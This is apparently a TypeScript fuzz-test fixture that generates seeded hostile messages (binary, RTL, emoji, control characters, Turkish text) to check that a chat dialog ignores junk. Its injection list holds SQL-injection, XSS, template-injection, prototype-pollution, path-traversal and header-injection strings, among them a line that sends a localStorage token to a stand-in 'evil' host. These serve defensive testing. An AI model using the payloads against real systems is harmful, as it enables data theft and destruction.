/**
 * Hostile chat messages from a fixed seed: long text, binary, right-to-left, emoji, control
 * characters, and SQL/HTML/script/template text, each alone and mixed. No input holds a run of ten
 * or more digits, so none is a well-formed VKN, TCKN or order number that a dialog would act on, and
 * none names a global command (a human agent, "temsilci", is a request, not junk): what
 * the suites measure is that junk changes nothing.
 */

/** A seeded generator in [0, 1) (the same figures from run to run). */
export function seeded(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

/** One fuzzed message and the family it comes from. */
export interface FuzzInput {
  family: string;
  text: string;
}

const injections = [
  `'; DROP TABLE "Subscriber"; --`,
  `1' OR '1'='1`,
  `" UNION SELECT idNumber, email FROM Subscriber --`,
  "Robert'); DELETE FROM Certificate WHERE ('1'='1",
  "<script>alert(document.cookie)</script>",
  `<img src=x onerror="fetch('//evil/'+localStorage.token)">`,
  "<b>kalın</b><a href='javascript:alert(1)'>tıkla</a>",
  "{{constructor.constructor('return process')().exit()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder is the hostile text itself
  "${process.exit(1)}",
  "__proto__[admin]=true&constructor[prototype][x]=1",
  "[tıkla](javascript:alert(1)) *kalın* _eğik_ `kod` ```blok```",
  "../../../../etc/passwd\u0000.png",
  "%00%0d%0aSet-Cookie:%20x=1",
  "errors.unexpected {{callCentre}} $t(errors.generic)",
];
const rtl = [
  "\u202e",
  "\u202d",
  "\u200f",
  "\u200e",
  "\u2067",
  "\u2069",
  "שלום",
  "مرحبا بالعالم",
  "ﷺ",
  "עִבְרִית",
];
const emoji = [
  "👩‍👩‍👧‍👦",
  "🏳️‍🌈",
  "🇹🇷",
  "👍🏽",
  "🔥",
  "😀",
  "🧿",
  "\u{1F9D1}\u200D\u{1F4BB}",
  "\uFE0F",
  "\u20E3",
];
const controls = [
  "\u0000",
  "\u0001",
  "\u0007",
  "\b",
  "\u001b[31m",
  "\r",
  "\n",
  "\t",
  "\u007f",
  "\u0085",
  "\u2028",
  "\u2029",
  "\u200b",
  "\uFEFF",
  "\uFFFD",
  "\uFFFF",
];
const turkish = [
  "başvuru",
  "mühür",
  "ğüşıöç",
  "İSTANBUL",
  "ıi",
  "şirket",
  "kayıp",
  "çalıntı",
  "geri",
  "evet",
  "hayır",
];

/** No run of 10+ digits (a VKN, TCKN or order number would be acted on). */
function withoutIdNumbers(text: string): string {
  return text.replace(/\d{10,}/g, (run) => run.slice(0, 9));
}

/** `count` fuzzed messages of every family, from `seed`. */
export function chatFuzzInputs(seed: number, count: number): FuzzInput[] {
  const random = seeded(seed);
  const int = (n: number) => Math.floor(random() * n);
  const pick = <T>(list: readonly T[]): T => list[int(list.length)]!;
  const repeat = (n: number, part: () => string) => Array.from({ length: n }, part).join("");
  const families: Record<string, () => string> = {
    long: () => repeat(60 + int(200), () => `${pick(turkish)} `).slice(0, 200 + int(1200)),
    binary: () => repeat(1 + int(300), () => String.fromCharCode(int(256))),
    "utf-16 units": () => repeat(1 + int(64), () => String.fromCharCode(int(0x10000))),
    rtl: () => repeat(1 + int(12), () => `${pick(rtl)}${pick(turkish)}`),
    emoji: () => repeat(1 + int(30), () => pick(emoji)),
    control: () => repeat(1 + int(20), () => `${pick(controls)}${random() < 0.3 ? pick(turkish) : ""}`),
    injection: () => pick(injections),
    mixed: () =>
      repeat(2 + int(6), () =>
        pick([pick(injections), pick(rtl), pick(emoji), pick(controls), pick(turkish), String(int(1e9))]),
      ),
  };
  const names = Object.keys(families);
  const out: FuzzInput[] = [];
  for (let i = 0; i < count; i++) {
    const family = names[i % names.length]!;
    out.push({ family, text: withoutIdNumbers(families[family]!()) });
  }
  return out;
}
